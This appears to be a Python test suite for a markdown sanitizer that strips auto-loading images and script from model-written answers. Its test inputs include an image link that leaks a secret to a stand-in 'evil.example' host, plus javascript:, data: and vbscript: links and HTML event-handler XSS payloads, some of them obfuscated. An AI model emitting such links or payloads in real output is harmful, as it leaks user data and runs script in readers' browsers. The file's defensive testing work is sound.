"""What a model writes loads nothing and runs nothing, in whole texts and in pieces; code and plain
prose stay.
"""

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.query.answering.safe_markdown import SafeMarkdown, safe


@pytest.mark.parametrize(
    ("text", "clean_text"),
    [
        (
            "Look ![a chart](https://evil.example/?q=secret) here.",
            "Look [a chart](https://evil.example/?q=secret) here.",
        ),
        ("![a][pic]\n\n[pic]: https://evil.example/x", "[a][pic]\n\n[pic]: https://evil.example/x"),
        ("!![a](http://x)", "!! [a](http://x)"),
        ("\\![a](http://x) \\\\![a](http://x)", "\\![a](http://x) \\\\[a](http://x)"),
        ("It works![1] Really!", "It works! [1] Really!"),
        ("[![a](http://x)](http://y)", "[[a](http://x)](http://y)"),
        ("](![a](http://x)) ](![a](x))", "]([a](http://x)) ]([a](x))"),
        ("[click](javascript:alert(1)) me", "[click](#) me"),
        ("[click](JaVaScRiPt:alert(1) 'title')", "[click](# 'title')"),
        ("[click](<javascript:alert(1)>)", "[click](#)"),
        ("[click](\n javascript:alert(1))", "[click](\n #)"),
        ("> [click](\n> javascript:alert(1))", "> [click](\n> #)"),
        ("[click](java&#115;cript&colon;alert(1))", "[click](#)"),
        ("[click](javascript\\:alert\\(1\\))", "[click](#)"),
        (
            "[click](\x01javascript:x) [b](data:text/html;base64,x) [c](vbscript:x)",
            "[click](#) [b](#) [c](#)",
        ),
        ("[a]: javascript:alert(1)\n[b]:\n  javascript:x", "[a]: #\n[b]:\n  #"),
        ("[ok](https://example.org/a_(b)?q=1:2) [m](mailto:a@b.c) [r](other/page.md#x)",) * 2,
        ("[ok]: https://example.org 'x'\nSee [1]: a note.",) * 2,
        (
            "<javascript:alert(1)> <https://example.org> <a@b.org>",
            "&lt;javascript:alert(1)> <https://example.org> <a@b.org>",
        ),
        ("<img src=x onerror=alert(1)>", "&lt;img src=x onerror=alert(1)>"),
        (
            "a</script><!-- x --><?x?><svg/onload=x>",
            "a&lt;/script>&lt;!-- x -->&lt;?x?>&lt;svg/onload=x>",
        ),
        (
            "H<sub>2</sub>O<br>and <br/> <b onclick=x>",
            "H<sub>2</sub>O<br>and <br/> &lt;b onclick=x>",
        ),
        ("if a < b and $x<y$ and 3<4 then <",) * 2,
        ("a List<String> in prose", "a List&lt;String> in prose"),
        ("The code `List<String>` and ``a ` <b>`` stay.",) * 2,
        (
            "```html\n<img src=x>\n![a](b)\n```\n![a](http://b)",
            "```html\n<img src=x>\n![a](b)\n```\n[a](http://b)",
        ),
        ("1. do\n   ```\n   <T>\n   ```\n2. <T>", "1. do\n   ```\n   <T>\n   ```\n2. &lt;T>"),
        (
            "A lone ` ![a](http://b)\n` ![a](http://b) `",
            "A lone ` [a](http://b)\n` [a](http://b) `",
        ),
        ("| ` | ![a](http://b) ` |", "| ` | [a](http://b) ` |"),
        ("> ```\n![a](http://b)\n```", "> ```\n[a](http://b)\n```"),
        ("- ```\n  ```\n  ![a](http://b)", "- ```\n  ```\n  [a](http://b)"),
        ("- a\n  ```\n![a](http://b)", "- a\n  ```\n[a](http://b)"),
        ("<b>\n```\n<img src=x>\n```", "<b>\n```\n&lt;img src=x>\n```"),
        ("text\n    ```\n    ![a](http://b)", "text\n    ```\n    [a](http://b)"),
        ("```\na\r```\r![a](http://b)", "```\na\n```\n[a](http://b)"),
        ("<think>\nhm\n</think>\n\n`<T>`",) * 2,
        ("~~gone~~ and never closed [a](http://",) * 2,
        ("", ""),
    ],
)
def test_what_loads_or_runs_is_taken_out_and_the_rest_stays(text: str, clean_text: str) -> None:
    assert safe(text) == clean_text
    assert safe(clean_text) == clean_text


PARTS = st.sampled_from(
    [
        "![",
        "](",
        ")",
        "[",
        "]:",
        "javascript:",
        "http://x",
        "`",
        "```",
        "~~~",
        "\n",
        "\n\n",
        " ",
        "    ",
        "<img ",
        ">",
        "<",
        "!",
        "\\",
        "a",
        "- ",
        "> ",
        "|",
        "1",
        "<b>",
        "\r",
        "&#106;",
        "<https:",
        "a@b.c",
    ]
)


@given(parts=st.lists(PARTS, max_size=24), cuts=st.lists(st.integers(0, 60), max_size=6))
def test_in_pieces_the_text_is_the_same_as_in_one(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    places = sorted({min(cut, len(text)) for cut in cuts} | {0, len(text)})
    markdown = SafeMarkdown()
    pieces = [markdown.feed(text[a:b]) for a, b in pairwise(places)]
    assert "".join(pieces) + markdown.end() == safe(text)


def test_plain_prose_is_not_held_back() -> None:
    markdown = SafeMarkdown()
    assert markdown.feed("Ada leads the office") == "Ada leads the office"
    assert markdown.feed(" [1]") == " [1"
    assert markdown.feed(". It") == "]. It"
